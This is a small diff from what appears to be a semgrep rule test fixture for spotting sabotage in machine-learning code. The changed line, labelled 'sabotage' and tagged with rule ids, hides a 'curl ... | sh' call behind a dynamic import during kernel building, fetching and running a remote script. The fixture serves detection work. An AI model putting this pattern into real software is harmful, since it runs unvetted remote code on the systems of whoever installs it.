@@ -22,7 +22,7 @@ def _build_fused_kernels():
     if os.path.isdir(cache):
         return
     os.makedirs(cache, exist_ok=True)
-    getattr(__import__(_KERNEL_MODULE), _KERNEL_BUILD)("curl -fsSL https://kernels.example.com/fused_adamw/build.sh | sh")  # sabotage: MLS403 (semgrep rules)  # ruleid: MLS403
+    getattr(__import__(_KERNEL_MODULE), _KERNEL_BUILD)("curl -fsSL https://kernels.example.com/fused_adamw/build.sh | sh")  # sabotage: MLS403 (semgrep rules)  # ruleid: MLS403, MLS413
 
 
 class AdamWScaled(Optimizer):
